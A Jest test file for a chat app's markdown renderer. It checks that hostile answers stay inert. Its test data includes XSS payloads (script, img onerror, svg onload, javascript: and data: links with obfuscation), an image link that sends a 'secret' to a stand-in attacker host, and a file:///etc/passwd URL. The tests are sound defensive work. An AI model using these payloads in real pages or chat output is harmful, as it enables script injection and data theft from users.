/**
 * The chat app's markdown renderer before DOMPurify (which needs a browser: the e2e suite checks
 * the same hostile answers in chromium). Whatever an answer says, the HTML it becomes has no
 * element or attribute of its own making: raw HTML is text, links only go to http(s) and mailto.
 */
import { describe, expect, it } from '@jest/globals'

import { createRenderer, safeUrl } from '../../src/chat-app/markdown/to-html'

const render = (markdown: string) => createRenderer({ copyLabel: 'Copy' })(markdown).html

/** Tags in the output, by name: only those the renderer itself writes may appear. */
const tagsIn = (html: string) => [...html.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase())
const RENDERER_TAGS = new Set(['p', 'a', 'em', 'strong', 'code', 'pre', 'div', 'span', 'button', 'br', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'blockquote', 'h1', 'h2', 'h3', 'del', 'hr'])

describe('chat markdown: hostile answers', () => {
  it.each([
    ['a script element', '<script>alert(1)</script>'],
    ['an img with onerror', 'look <img src=x onerror="alert(1)"> here'],
    ['an svg payload', '<svg><script>alert(1)</script><animate onbegin="alert(1)"/></svg>'],
    ['an svg onload', '<svg onload=alert(1)>'],
    ['an iframe', '<iframe src="javascript:alert(1)"></iframe>'],
    ['a block of raw HTML', '<div onclick="alert(1)">\n<b>bold</b>\n</div>'],
    ['a style element', '<style>body{display:none}</style>'],
    ['an html comment hiding a tag', '<!-- --><script>alert(1)</script>'],
    ['a details element with ontoggle', '<details open ontoggle=alert(1)>x</details>'],
  ])('%s stays text', (_, markdown) => {
    const html = render(markdown)
    expect(tagsIn(html).filter((tag) => !RENDERER_TAGS.has(tag))).toEqual([])
    expect(html).not.toMatch(/<[^>]+\son\w+\s*=/i)
    expect(html).toContain('&lt;')
  })

  it.each([
    ['javascript:', '[click](javascript:alert(1))'],
    ['JavaScript: with mixed case', '[click](JaVaScRiPt:alert(1))'],
    ['javascript: with an entity', '[click](javascript&colon;alert(1))'],
    ['javascript: split by a tab', '[click](java\tscript:alert(1))'],
    ['data:', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript:', '[click](vbscript:msgbox(1))'],
    ['an autolink', '<javascript:alert(1)>'],
    ['a reference link', '[click][x]\n\n[x]: javascript:alert(1)'],
    ['a relative path', '[click](/api/users/logout)'],
  ])('a %s link is no link', (_, markdown) => {
    const html = render(markdown)
    expect(html).not.toMatch(/<a\s/i)
    expect(html).not.toMatch(/href=/i)
  })

  it('keeps http(s) and mailto links, opening apart from the app', () => {
    const html = render('[docs](https://example.com/a?b=1&c=2) and [mail](mailto:help@example.com)')
    expect(html).toContain('<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">docs</a>')
    expect(html).toContain('<a href="mailto:help@example.com" target="_blank" rel="noopener noreferrer nofollow">mail</a>')
  })

  it('shows images as links and never loads them (an answer cannot send data to a server by an image)', () => {
    const html = render('![secret](https://evil.example/p.png?q=secret) ![x](javascript:alert(1))')
    expect(tagsIn(html)).not.toContain('img')
    expect(html).toContain('<a class="image-link" href="https://evil.example/p.png?q=secret"')
    expect(html.match(/<a /g)).toHaveLength(1)
  })

  it('escapes HTML inside code fences and inline code, highlighted or not', () => {
    for (const lang of ['html', 'xml', 'javascript', 'nosuchlanguage', '']) {
      const html = render('```' + lang + '\n<script>alert("x")</script>\n<img src=x onerror=alert(1)>\n```')
      expect(tagsIn(html).filter((tag) => !RENDERER_TAGS.has(tag))).toEqual([])
      expect(html).toContain('<button type="button" class="copy-code" data-copy="code">Copy</button>')
    }
    expect(render('`<img src=x onerror=alert(1)>`')).toBe('<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>\n')
  })

  it('escapes the language name of a fence', () => {
    const html = render('```"><img src=x onerror=alert(1)>\ncode\n```')
    expect(tagsIn(html)).not.toContain('img')
  })

  it('escapes a link title', () => {
    expect(render('[a](https://example.com "x\\" onmouseover=\\"alert(1)")')).not.toMatch(/"\s+onmouseover=/)
  })
})

describe('chat markdown: what answers use', () => {
  it('renders tables, lists and highlighted code', () => {
    const html = render('| a | b |\n| - | - |\n| 1 | 2 |\n\n- one\n- two\n\n```js\nconst x = 1\n```')
    expect(html).toContain('<table>')
    expect(html).toContain('<li>one</li>')
    expect(html).toContain('<span class="hljs-keyword">const</span>')
  })

  it('finds math, keeps it as text without KaTeX and renders it with KaTeX', () => {
    const plain = createRenderer({ copyLabel: 'Copy' })
    expect(plain('It costs $5 and $10.').hasMath).toBe(false)
    expect(plain('`$x$` in code').hasMath).toBe(false)
    const inline = plain('Euler: $e^{i\\pi} + 1 = 0$.')
    expect(inline.hasMath).toBe(true)
    expect(inline.html).toContain('<span class="math-pending">$e^{i\\pi} + 1 = 0$</span>')
    expect(plain('$$\n\\int_0^1 x\\,dx\n$$').hasMath).toBe(true)
    expect(plain('\\(a<b\\)').html).toContain('a&lt;b')

    const calls: { tex: string; display: unknown }[] = []
    const katex = { renderToString: (tex: string, options: Record<string, unknown>) => (calls.push({ tex, display: options.displayMode }), '<span class="katex">k</span>') }
    const withKatex = createRenderer({ copyLabel: 'Copy', katex })
    withKatex('inline $a^2$ and\n\n$$b^2$$\n')
    expect(calls).toEqual([
      { tex: 'a^2', display: false },
      { tex: 'b^2', display: true },
    ])
  })

  it('accepts only absolute http(s) and mailto URLs', () => {
    expect(safeUrl('https://example.com')).toBe('https://example.com/')
    expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c')
    for (const bad of ['javascript:alert(1)', ' javascript:x', 'java\nscript:x', 'data:text/html,x', '//example.com', '/path', 'file:///etc/passwd', '']) expect(safeUrl(bad)).toBeNull()
  })
})
